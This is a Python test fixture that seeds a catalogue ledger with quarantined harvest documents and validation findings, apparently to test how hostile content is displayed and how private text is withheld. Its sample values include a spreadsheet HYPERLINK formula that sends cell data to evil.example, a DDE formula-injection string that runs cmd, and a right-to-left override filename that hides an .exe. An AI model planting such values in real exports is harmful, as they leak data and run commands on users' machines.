"""What a harvest left in quarantine and noticed, some of it meant to do harm."""

from __future__ import annotations

from catalogue.model.documents import Finding, Severity
from catalogue.store.ledger import Ledger
from tests.web.studies_for_pages import HOSTILE, HUMAN, SCRIPT, STUDY

BIDI = "\u202egnp.exe\u2066"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"mend")'
REFUSED = b'{"@graph": ["refused"], "name": "<b>"}'
SECRET = "the patient's own words"
ADDRESS = "https://crates.example.org/"


def seed_issues(ledger: Ledger) -> None:
    """Refused documents and findings of three sources: one open, one private, one that was never read."""
    ledger.add_source("crates", harvester="gide", location=ADDRESS, owners=("biostudies", "ssbd"))
    ledger.add_source("sealed", harvester="gide", location=ADDRESS, owners=("idr",), options={"visibility": "private"})
    ledger.add_source("unread", harvester="gide", location=ADDRESS)
    with ledger.transaction() as writer:
        digest = writer.put_original(REFUSED, "application/ld+json")
        run = writer.start_run("crates", {"kind": "harvest"})
        for item, reason, identifier, detail in (
            (f"{SCRIPT}.json", "not-parsable", None, f"{FORMULA} {BIDI} {SCRIPT}"),
            ("S-BIAD90009.json", "schema-required", "biostudies:S-BIAD90009", "title: must be given; and 1 more"),
            ("folder.json", "bad-identifier", None, "no accession"),
            ("held.json", "policy", None, "private until 2027"),
        ):
            url = f"{ADDRESS}{item}" if item != "folder.json" else "/home/operator/folder.json"
            writer.quarantine(
                "crates", item, reason=reason, detail=detail, harvester="gide/2", identifier=identifier, url=url,
                original_digest=digest,
            )  # fmt: skip
        faults = [Finding("rule:Study", Severity.REJECTED, "title", "", "must be given")]
        faults += [Finding("rule:Study", Severity.REJECTED, "license", FORMULA, "must be an address")]
        writer.replace_findings("crates", "S-BIAD90009.json", "biostudies:S-BIAD90009", faults, run)
        noticed = [
            Finding("label-mismatch", Severity.WARNING, "terms[0]", f"{SCRIPT}{BIDI}", f"+cmd|' /C calc'!A0 {SCRIPT}"),
            Finding("whitespace", Severity.REPAIRED, "@graph", "\tvalue", "Blanks were tidied."),
            Finding("profile:gide-0.2-Study-methods", Severity.INFO, "methods", "", "at least one"),
        ]
        writer.replace_findings("crates", "evil.json", HOSTILE, noticed, run)
        writer.replace_findings(
            "crates", "human.json", HUMAN, [Finding("email-form", Severity.WARNING, "author", SECRET, SECRET)], run
        )
        writer.replace_findings(
            "crates",
            "good.json",
            STUDY,
            [Finding("placeholder", Severity.REPAIRED, "keywords", "n/a", "Left out.")],
            run,
        )
        writer.end_run(run, "partial", {"kind": "harvest", "quarantined": 4})
        sealed = writer.start_run("sealed", {"kind": "harvest"})
        writer.quarantine(
            "sealed", "idr9090.json", reason="schema-required", detail=SECRET, harvester="gide/2",
            identifier="idr:idr9090", url=f"{ADDRESS}idr9090.json", original_digest=digest,
        )  # fmt: skip
        writer.replace_findings(
            "sealed", "b.json", "idr:idr9091", [Finding("whitespace", Severity.REPAIRED, "a", SECRET, SECRET)], sealed
        )
        writer.end_run(sealed, "failed", {"kind": "harvest", "detail": SECRET})
